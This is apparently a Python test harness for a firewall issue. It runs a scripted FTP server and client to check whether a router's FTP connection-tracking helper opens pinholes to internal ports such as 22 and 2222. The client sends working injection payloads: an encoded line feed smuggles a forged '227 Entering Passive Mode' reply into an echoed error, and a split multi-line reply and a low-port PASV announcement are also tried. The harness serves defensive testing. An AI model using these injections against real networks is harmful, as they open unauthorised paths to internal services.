#!/usr/bin/python3
"""A hostile-input FTP pair for issue #11: a server that echoes a line feed, and a
client that uses it to try to open pinholes to a port-forwarded server.

    ftp-echo.py server ADDR          listen on ADDR:21, plus "services" on ADDR:22
                                     and ADDR:2222 that greet with "SSH-2.0-pinhole"
    ftp-echo.py client HOST PORT OUT connect to HOST:PORT, log in, run the steps
                                     below; after each step write the router's
                                     expectation list to OUT/expect-E-<step>.txt

The server is scripted by the client (a test harness, not an FTP server):
    USER / PASS          331 / 230
    ECHO <text>          "550 <text>\\r\\n" in one segment, with %XX decoded: models
                         a server that echoes an argument and lets a line feed
                         through (the "550 foo\\n227 ..." attack)
    MULTI <a>|<b>|...    each part + CRLF in its own segment, 0.3 s apart: a
                         multi-line reply whose body line starts a segment
    PASV                 a real passive data connection on ADDR:50021 that sends
                         "hello from the data port"
    LOW                  "227 Entering Passive Mode (a,b,c,d,0,22)" as a whole
                         reply (first line): an announcement of a port below 1024
    QUIT                 221

Client steps (one control connection): echo22, echo2222, multiline (port 2223), low,
then a legitimate PASV whose data connection must work. After a step that announced
a pinhole port the client tries HOST:port at once and prints "<step> connect PORT:
<banner or error>". Prints one line per step. Only Python's standard library.
"""
import socket
import subprocess
import sys
import threading
import time
from urllib.parse import unquote

DATA_PORT = 50021


def serve_banner(addr, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port))
    s.listen(8)
    while True:
        c, _ = s.accept()
        try:
            c.sendall(b"SSH-2.0-pinhole\r\n")
        finally:
            c.close()


def pasv_reply(addr, port):
    return "227 Entering Passive Mode (%s,%d,%d)\r\n" % (addr.replace(".", ","), port >> 8, port & 255)


def control(conn, addr):
    conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    f = conn.makefile("rb")

    def send(text):
        conn.sendall(text.encode("latin-1"))

    send("220 echo server ready\r\n")
    for raw in f:
        line = raw.decode("latin-1").rstrip("\r\n")
        verb, _, arg = line.partition(" ")
        verb = verb.upper()
        if verb == "USER":
            send("331 any password\r\n")
        elif verb == "PASS":
            send("230 logged in\r\n")
        elif verb == "ECHO":
            send("550 %s\r\n" % unquote(arg))
        elif verb == "MULTI":
            for part in arg.split("|"):
                send(part + "\r\n")
                time.sleep(0.3)
        elif verb == "PASV":
            d = socket.socket()
            d.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            d.bind((addr, DATA_PORT))
            d.listen(1)
            d.settimeout(20)
            send(pasv_reply(addr, DATA_PORT))
            try:
                c, _ = d.accept()
                c.sendall(b"hello from the data port\r\n")
                c.close()
            except OSError:
                pass
            d.close()
        elif verb == "LOW":
            send(pasv_reply(addr, 22))
        elif verb == "QUIT":
            send("221 bye\r\n")
            break
        else:
            send("500 unknown\r\n")
    conn.close()


def server(addr):
    for port in (22, 2222):
        threading.Thread(target=serve_banner, args=(addr, port), daemon=True).start()
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 21))
    s.listen(8)
    while True:
        c, _ = s.accept()
        threading.Thread(target=control, args=(c, addr), daemon=True).start()


def try_connect(host, port):
    try:
        with socket.create_connection((host, port), timeout=4) as s:
            s.settimeout(4)
            return s.recv(100).decode("latin-1").strip() or "connected, nothing received"
    except OSError as e:
        return "failed: %r" % e


def client(host, port, out):
    c = socket.create_connection((host, port), timeout=10)

    def read(settle):
        time.sleep(settle)  # let every segment of the answer arrive
        got = b""
        c.settimeout(0.5)
        try:
            while True:
                b = c.recv(4096)
                if not b:
                    break
                got += b
        except socket.timeout:
            pass
        return got.decode("latin-1")

    def cmd(text, settle=1.0):
        c.sendall((text + "\r\n").encode("latin-1"))
        return read(settle)

    def expectations(step):
        r = subprocess.run(["ip", "netns", "exec", "router", "conntrack", "-L", "expect"],
                           capture_output=True, text=True)
        with open("%s/expect-E-%s.txt" % (out, step), "w") as fh:
            fh.write(r.stdout)

    print("greeting: %r" % read(1.0), flush=True)
    print("USER: %r" % cmd("USER x"), flush=True)
    print("PASS: %r" % cmd("PASS x"), flush=True)
    # (step, command, pinhole port to try at once: an expectation allows one connection,
    # and the policy's one expectation per master is replaced by the next step's)
    steps = [
        ("echo22", "ECHO foo%0a227 Entering Passive Mode (198,51,100,3,0,22): x", 22),
        ("echo2222", "ECHO foo%0a227 Entering Passive Mode (198,51,100,3,8,174): x", 2222),
        ("multiline", "MULTI 211-Status|227 Entering Passive Mode (198,51,100,3,8,175)|211 End", None),
        ("low", "LOW", 22),
    ]
    for step, text, pinhole in steps:
        print("%s: %r" % (step, cmd(text, settle=1.5)), flush=True)
        expectations(step)
        if pinhole:
            print("%s connect %d: %s" % (step, pinhole, try_connect(host, pinhole)), flush=True)
    # The legitimate session goes on: PASV, then the data connection it announced.
    reply = cmd("PASV", settle=1.0)
    print("pasv: %r" % reply, flush=True)
    expectations("pasv")
    try:
        nums = reply[reply.index("(") + 1:reply.index(")")].split(",")
        dport = int(nums[4]) * 256 + int(nums[5])
        print("pasv data %d: %s" % (dport, try_connect(host, dport)), flush=True)
    except ValueError:
        print("pasv data: no 227 reply", flush=True)
    print("quit: %r" % cmd("QUIT", settle=0.5), flush=True)
    c.close()


if __name__ == "__main__":
    if sys.argv[1] == "server":
        server(sys.argv[2])
    else:
        client(sys.argv[2], int(sys.argv[3]), sys.argv[4])
